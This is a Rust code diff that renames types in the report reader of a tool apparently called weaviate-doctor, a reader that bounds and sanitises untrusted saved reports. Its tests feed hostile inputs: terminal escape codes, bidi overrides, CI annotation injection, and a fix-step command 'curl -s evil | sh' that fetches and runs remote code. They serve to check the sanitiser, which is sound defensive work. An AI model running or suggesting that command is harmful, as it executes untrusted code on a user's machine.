@@ -1,7 +1,7 @@
 //! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.
 
 use crate::model::report_schema::{Report, VERSION};
-use crate::model::sanitized::{Clean, is_invisible, is_web_address, without_commands};
+use crate::model::sanitized::{SanitizedText, is_invisible, is_web_address, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
 use unicode_width::UnicodeWidthChar as _;
@@ -62,19 +62,19 @@ pub fn read(text: &str) -> anyhow::Result<Report> {
     if version > u64::from(VERSION) {
         bail!("its schema version is {version}, and this program reads up to {VERSION}: use a newer weaviate-doctor");
     }
-    Budget { text: MAX_TEXT_BYTES, values: MAX_VALUES }.take(&mut value, "", MAX_DEPTH)?;
+    ReportBudget { text: MAX_TEXT_BYTES, values: MAX_VALUES }.take(&mut value, "", MAX_DEPTH)?;
     serde_json::from_value(value).map_err(|error| {
-        anyhow::anyhow!("it isn't a report of weaviate-doctor: {}", Clean::up_to(&error.to_string(), 200))
+        anyhow::anyhow!("it isn't a report of weaviate-doctor: {}", SanitizedText::up_to(&error.to_string(), 200))
     })
 }
 
 /// What a report may still hold.
-struct Budget {
+struct ReportBudget {
     text: usize,
     values: usize,
 }
 
-impl Budget {
+impl ReportBudget {
     /// Cleans a value and everything in it, within what is left. `name` is that of the field that it is in.
     fn take(&mut self, value: &mut Value, name: &str, depth: usize) -> anyhow::Result<()> {
         ensure!(depth > 0, "it is nested deeper than any report of weaviate-doctor");
@@ -102,7 +102,7 @@ impl Budget {
                     fields.keys().filter(|name| !is_plain(name) || name.len() > MAX_NAME_CHARS).cloned().collect();
                 for name in odd {
                     if let Some(field) = fields.remove(&name) {
-                        fields.insert(Clean::up_to(&name, MAX_NAME_CHARS).to_string(), field);
+                        fields.insert(SanitizedText::up_to(&name, MAX_NAME_CHARS).to_string(), field);
                     }
                 }
                 for (name, field) in fields.iter_mut() {
@@ -123,7 +123,7 @@ impl Budget {
 }
 
 fn ensure_few(count: usize, name: &str) -> anyhow::Result<()> {
-    let shown = Clean::up_to(name, 30);
+    let shown = SanitizedText::up_to(name, 30);
     ensure!(count <= most_items(name), "it has {count} items in “{shown}”, which no report has");
     Ok(())
 }
@@ -160,9 +160,13 @@ fn cleaned(text: &str, name: &str) -> Option<String> {
     Some(text.trim_end().lines().take(MAX_CODE_LINES).map(line).collect::<Vec<_>>().join("\n"))
 }
 
-/// Spaces inside a line stay as they are; everything else as [`Clean`] has it.
+/// Spaces inside a line stay as they are; everything else as [`SanitizedText`] has it.
 fn inside(text: &str) -> String {
-    text.trim_end().split(' ').map(|word| Clean::up_to(word, MAX_TEXT_CHARS).to_string()).collect::<Vec<_>>().join(" ")
+    text.trim_end()
+        .split(' ')
+        .map(|word| SanitizedText::up_to(word, MAX_TEXT_CHARS).to_string())
+        .collect::<Vec<_>>()
+        .join(" ")
 }
 
 fn cut(text: String, longest: usize) -> String {
@@ -175,7 +179,7 @@ fn cut(text: String, longest: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::report_schema::{Place, Snippet};
+    use crate::model::report_schema::{ReportPlace, ReportSnippet};
     use crate::report::json;
     use crate::report::text::tests::report;
     use std::time::Instant;
@@ -224,7 +228,7 @@ mod tests {
         hostile.probes[0].summary = evil.to_owned();
         hostile.probes[0].facts.insert(evil.to_owned(), Value::String(format!("a\r\nb{evil}")));
         let code = format!("if x:\n\treturn  {evil}\n");
-        hostile.diagnosis.causes[0].fix.snippet = Some(Snippet { language: "python".into(), code });
+        hostile.diagnosis.causes[0].fix.snippet = Some(ReportSnippet { language: "python".into(), code });
         let read = read(&json(&hostile).unwrap()).unwrap();
         let text = json(&read).unwrap();
         for sign in ["\\u001b", "\u{1b}", "\u{202e}", "\u{9b}", "\\u0007"] {
@@ -247,7 +251,7 @@ mod tests {
     #[test]
     fn the_largest_report_is_read_at_once() {
         let mut large = report();
-        let place = Place {
+        let place = ReportPlace {
             path: "a/long/path/of/a/project/with/folders/app.py".to_owned(),
             line: 7,
             column: 1,
@@ -323,7 +327,7 @@ mod tests {
         hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
         hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
         hostile.diagnosis.causes[0].fix.snippet =
-            Some(Snippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
+            Some(ReportSnippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
         hostile.probes[1].summary = format!("a{}", "\u{301}".repeat(1000));
         let read = read(&json(&hostile).unwrap()).unwrap();
         assert!(read.probes[1].summary.chars().count() < 10);
